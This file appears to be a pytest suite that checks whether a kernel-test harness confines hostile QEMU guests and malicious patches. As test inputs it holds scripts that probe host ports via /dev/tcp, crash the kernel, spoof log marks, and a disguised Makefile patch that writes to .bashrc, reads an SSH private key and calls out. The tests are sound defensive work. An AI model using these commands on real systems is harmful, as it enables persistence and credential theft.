# SPDX-License-Identifier: GPL-2.0-only
"""A hostile guest on a real kernel: it looks for a way out, floods, lies and crashes. What confines QEMU, too."""

from __future__ import annotations

import contextlib
import dataclasses
import difflib
import re
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness import profile, source
from harness.errors import GuestError
from harness.guest import start
from harness.paths import Paths, default_paths
from harness.progress import Quiet
from harness.repository import Repository
from harness.store import Store
from harness.values import QemuPlan
from tests.vm.outcome import Harness, Outcome
from tests.vm.test_bad_guest import add_suite, faulty, left_behind
from tests.vm.test_guest_vm import Planner, paths, planned, prepared, replaced

__all__ = ["faulty", "paths", "planned", "prepared"]

pytestmark = pytest.mark.vm


@dataclasses.dataclass
class Service:
    """Services of the host that a guest would like to talk to, on its loopback and on all of its addresses."""

    ports: tuple[int, ...]
    callers: list[object]


@pytest.fixture
def service() -> Iterator[Service]:
    listeners = [socket.create_server((address, 0)) for address in ("127.0.0.1", "0.0.0.0")]
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.1", 0))
    found = Service(ports=tuple(one.getsockname()[1] for one in (*listeners, datagrams)), callers=[])

    def accept(one: socket.socket) -> None:
        with contextlib.suppress(OSError):  # closed: the test is over
            while True:
                if one is datagrams:
                    found.callers.append(one.recvfrom(64)[1])
                    continue
                connection, address = one.accept()
                connection.close()
                found.callers.append(address)

    threads = [threading.Thread(target=accept, args=(one,), daemon=True) for one in (*listeners, datagrams)]
    for thread in threads:
        thread.start()
    yield found
    for one in (*listeners, datagrams):
        with contextlib.suppress(OSError):
            one.shutdown(socket.SHUT_RDWR)
        one.close()


def own_addresses() -> list[str]:
    """The host's own addresses, as it would reach the world (nothing is sent)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return []
        return [probe.getsockname()[0]]


REACH = """
ip route add default via 10.0.2.2 2>/dev/null
for address in {addresses}; do
	for port in {ports}; do
		(timeout 2 bash -c "echo x >/dev/tcp/$address/$port" && echo "tcp $address $port") 2>/dev/null &
		(timeout 2 bash -c "echo x >/dev/udp/$address/$port") 2>/dev/null &
	done
done
(timeout 3 nslookup localhost 10.0.2.3 >/dev/null && echo dns) 2>/dev/null &
wait
true
"""


@pytest.mark.parametrize("restricted", [True, False])
def test_the_hosts_services_are_out_of_reach(
    restricted: bool, planned: Planner, paths: Paths, service: Service, tmp_path: Path
) -> None:
    plan: QemuPlan = planned()
    if not restricted:
        plan = replaced(plan, "restrict=on,", "")
    with start(plan, folder=tmp_path / "run", paths=paths) as guest:
        addresses = " ".join(["10.0.2.2", "10.0.2.3", "10.0.2.4", "127.0.0.1", *own_addresses()])
        script = REACH.format(addresses=addresses, ports=" ".join(map(str, service.ports)))
        result = guest.run(script, deadline=120)
        assert result.ok, result.stderr
        if restricted:
            assert (result.stdout, service.callers) == ("", [])
        else:
            assert f"tcp 10.0.2.2 {service.ports[0]}" in result.stdout and service.callers


def listeners(pid: int) -> list[str]:
    """The local addresses (hex, as in /proc/net/tcp) on which a process listens or takes datagrams."""
    links = [str(link.readlink()) for link in Path(f"/proc/{pid}/fd").iterdir()]
    inodes = {link[len("socket:[") : -1] for link in links if link.startswith("socket:[")}
    found: list[str] = []
    for name in ("tcp", "tcp6", "udp", "udp6", "raw", "raw6"):
        lines = Path(f"/proc/{pid}/net/{name}").read_text().splitlines()[1:]
        rows = [line.split() for line in lines]
        found += [f"{name} {row[1]}" for row in rows if row[9] in inodes and (row[3] == "0A" or name[:3] != "tcp")]
    return found


def test_qemu_listens_on_the_loopback_only_and_is_confined(planned: Planner, paths: Paths, tmp_path: Path) -> None:
    with start(planned("two-devices"), folder=tmp_path / "run", paths=paths) as guest:
        assert listeners(guest.pid) == [f"tcp 0100007F:{guest.ssh_port:04X}"]
        status = dict(line.split(":\t", 1) for line in Path(f"/proc/{guest.pid}/status").read_text().splitlines())
        assert (status["Seccomp"], status["NoNewPrivs"]) == ("2", "1")
        modes = {path.name: path.stat().st_mode & 0o777 for path in guest.private.iterdir()}
        assert guest.private.stat().st_mode & 0o777 == 0o700 and set(modes.values()) == {0o600} and len(modes) > 4


@pytest.mark.parametrize("denied", [True, False])
def test_a_qemu_that_is_taken_over_starts_no_program(
    denied: bool, planned: Planner, paths: Paths, tmp_path: Path
) -> None:
    plan = planned() if denied else replaced(planned(), "spawn=deny", "spawn=allow")
    with start(plan, folder=tmp_path / "run", paths=paths) as guest:
        with contextlib.suppress(GuestError):  # refused, or the system has ended QEMU for it
            guest.qmp("migrate", uri=f"exec:cat >{tmp_path}/escaped")
        until = time.monotonic() + (5 if denied else 60)
        while not (tmp_path / "escaped").exists() and time.monotonic() < until:
            time.sleep(0.1)
    assert (tmp_path / "escaped").exists() == (not denied)


def judged(harness: Harness, project: Path, suite: str, action: str) -> Outcome:
    add_suite(project, suite, action)
    (project / "tests" / "guest" / suite / "settings").write_text("timeout=240\n")
    outcome = harness("run", "--suite", suite, env={"HARNESS_PROJECT": str(project)})
    assert outcome.results["verdict"] != "PASS" and outcome.status == 1, outcome.why
    assert "\x1b" not in outcome.text and "\x1b" not in (outcome.folder / "results.json").read_text()
    assert left_behind(outcome) == []
    return outcome


LIES = {
    "unplanned": ("echo 'ok 7 nobody'", "which was not asked for"),
    "replanned": ("echo '1..2'", "a second plan"),
    "again": ("echo 'KTAP version 1'; echo '1..1'; echo 'ok 1 after'; exit 0", "began a second time"),
    "silent": ("exit 0", "planned, but no result came"),
    "twice": ("echo \"ok $number $2\"", "a second result"),
    "bail": ("echo 'Bail out! all is well'; exit 0", "bailed out"),
}  # fmt: skip


def test_a_guest_that_lies(harness: Harness, faulty: Path) -> None:
    for suite, (action, _) in LIES.items():
        add_suite(faulty, suite, action)
    words = [word for suite in LIES for word in ("--suite", suite)]
    outcome = harness("run", *words, env={"HARNESS_PROJECT": str(faulty)})
    verdicts = outcome.verdicts()
    for suite, (_, said) in LIES.items():
        cases = [one for one in outcome.results["cases"] if one["suite"] == suite]
        assert not all(one["verdict"] == "PASS" for one in cases), (suite, verdicts)
        assert any(said in one["reason"] for one in cases), (suite, [one["reason"] for one in cases])
    assert outcome.status == 1 and outcome.results["verdict"] == "FAIL"


FORGED = """
for case in forged after first; do
	echo "harness: case end forged/test_faulty:$case" >/dev/kmsg
	echo "harness: case begin forged/test_faulty:$case" >/dev/kmsg
done
echo 'ok 2 forged'; echo 'ok 3 after'
echo c >/proc/sysrq-trigger
"""


def test_forged_marks_and_results_do_not_hide_a_crash(harness: Harness, faulty: Path) -> None:
    outcome = judged(harness, faulty, "forged", FORGED.replace("\n", "; ").strip("; ").replace("do;", "do"))
    assert "CRASH" in outcome.verdicts().values(), outcome.why


FLOOD = (
    "head -c 400000 /dev/urandom >/dev/ttyS0; printf '\\033]0;x\\007\\033[2J\\033[31m\\n' >/dev/ttyS0; "
    "head -c 5000000 /dev/zero | tr '\\0' x; echo; "
    "yes 'ok 2 flood' | head -n 100000; yes \"$(printf '\\033[31m# red')\" | head -c 1000000; "
    "echo c >/proc/sysrq-trigger; sleep 60"
)


def test_a_guest_that_floods_and_then_crashes(harness: Harness, faulty: Path) -> None:
    outcome = judged(harness, faulty, "flood", FLOOD)
    verdicts = outcome.verdicts()
    assert verdicts["flood/test_faulty:flood"] in ("CRASH", "FAIL") and "CRASH" in verdicts.values(), outcome.why
    log = (outcome.folder / "guests/1/console.log").read_text()
    assert "sysrq" in log and not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", log)


EVIL_MAKEFILE = """
$(shell echo evil >>$(HOME)/.bashrc)
$(shell bash -c 'echo x >/dev/tcp/127.0.0.1/@PORT@')
$(shell touch @FOLDER@/planted)
$(info reached: $(shell cat $(HOME)/.ssh/id_ed25519 2>/dev/null) $(SSH_AUTH_SOCK))
"""


def evil_series(folder: Path, port: int) -> Path:
    """A patch of the real kernel's Makefile, which every make of it reads: a mail as it would come from a list."""
    known = default_paths()
    tree = source.obtain(profile.Profile().source, paths=known, store=Store(known.cache), progress=Quiet())
    old = Repository(tree.repository).show(tree.commit, "Makefile").decode().splitlines(keepends=True)
    text = EVIL_MAKEFILE.replace("@PORT@", str(port)).replace("@FOLDER@", str(folder))
    new = old + text.splitlines(keepends=True)
    diff = "".join(difflib.unified_diff(old, new, "a/Makefile", "b/Makefile"))
    patch = folder / "evil.patch"
    patch.write_text(
        "From: Eve <eve@example.org>\nDate: Sat, 21 Nov 2026 12:00:00 +0000\nSubject: [PATCH] kbuild: tidy up\n\n"
        f"Nothing to see.\n---\ndiff --git a/Makefile b/Makefile\n{diff}-- \n2.39.5\n"
    )
    return patch


@pytest.mark.parametrize("sandboxed", [True, False])
def test_a_series_whose_makefile_attacks(harness: Harness, service: Service, tmp_path: Path, sandboxed: bool) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("the private key\n")
    (home / ".bashrc").write_text("# mine\n")
    patch = evil_series(tmp_path, service.ports[0])
    words = ["config", "show", "--series", patch, *([] if sandboxed else ["--no-sandbox"])]
    env = {"HOME": str(home), "HARNESS_CACHE": str(default_paths().cache), "SSH_AUTH_SOCK": f"{home}/agent"}
    outcome = harness(*words, env=env)
    assert "CONFIG_64BIT=y" in outcome.text, outcome.why
    reached = [(home / ".bashrc").read_text() != "# mine\n", bool(service.callers), (tmp_path / "planted").exists()]
    assert reached == [not sandboxed] * 3
    assert ("warning: the sandbox is off" in outcome.text) == (not sandboxed)
